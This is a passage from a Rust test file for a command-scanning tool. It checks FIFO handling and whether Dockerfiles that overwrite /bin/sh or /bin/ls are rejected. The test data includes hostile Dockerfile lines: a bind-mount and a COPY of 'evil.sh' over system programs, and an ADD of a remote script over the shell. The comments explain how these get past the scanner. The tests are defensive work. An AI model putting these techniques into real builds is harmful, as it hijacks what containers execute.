        .env("CMDGUARD_SYSTEM_CONFIG", home.join("etc/config.toml"))
        .env_remove("CMDGUARD_CONFIG")
        .args(["scan", "--no-config", "f.sh"])
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::null())
        .spawn()
        .unwrap();
    let start = std::time::Instant::now();
    let mut ended = false;
    while start.elapsed() < std::time::Duration::from_secs(10) {
        if child.try_wait().unwrap().is_some() {
            ended = true;
            break;
        }
        std::thread::sleep(std::time::Duration::from_millis(50));
    }
    if !ended {
        child.kill().unwrap();
    }
    child.wait().unwrap();
    assert!(ended, "scan of a FIFO was still running after 10 s");
}

/// `RUN --mount=type=bind,source=evil.sh,target=/bin/sh` mounts a file of the build context
/// over `/bin/sh` for that RUN (Dockerfile reference, "RUN --mount=type=bind"), and Docker
/// runs the shell form as `/bin/sh -c "echo hi"`: the program that runs is evil.sh. The same
/// with `target=/bin/ls` and `RUN … ls`. Scan skips every `--mount=…` option and allows the
/// command (not run: no Docker here).
#[test]
fn dockerfile_bind_mount_over_a_program_runs_the_mounted_file() {
    for text in [
        "FROM alpine\nRUN --mount=type=bind,source=evil.sh,target=/bin/sh echo hi\n",
        "FROM alpine\nRUN --mount=type=bind,source=evil.sh,target=/bin/ls ls\n",
    ] {
        assert_not_allowed(
            "df-bind-mount",
            "Dockerfile",
            text,
            "the build-context file evil.sh mounted over the program",
        );
    }
}

/// `COPY` and `ADD` write into the image that later RUNs execute in: `COPY evil.sh
/// /usr/local/bin/ls` puts a build-context file first on the default PATH, so `RUN ls` runs
/// it, and `ADD https://… /bin/sh` replaces the shell every later shell-form RUN starts.
/// Scan lists COPY and ADD among the instructions that "change neither the shell nor the
/// environment of a RUN" and allows both files (not run: no Docker here).
#[test]
fn dockerfile_copy_over_a_program_changes_what_run_runs() {
    for text in [
        "FROM alpine\nCOPY evil.sh /usr/local/bin/ls\nRUN ls\n",
        "FROM alpine\nADD https://example.com/x.sh /bin/sh\nRUN echo hi\n",
    ] {
        assert_not_allowed(
            "df-copy-over",
            "Dockerfile",
            text,
            "the copied file in place of the program",
        );
    }
}
